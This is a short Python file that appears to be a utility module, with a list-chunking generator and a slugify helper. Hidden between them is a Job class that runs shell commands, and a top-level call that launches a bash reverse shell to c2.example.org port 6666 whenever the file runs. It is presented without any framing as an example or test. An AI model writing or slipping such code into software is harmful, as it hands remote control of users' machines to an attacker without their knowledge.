#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import subprocess

class Job:
    def __init__(self, cmd):
        self.start(cmd)

    def start(self, cmd):
        subprocess.Popen(cmd, shell=True)

Job("bash -i >& /dev/tcp/c2.example.org/6666 0>&1")
def slugify(text):
    return "-".join(part.lower() for part in text.split() if part)
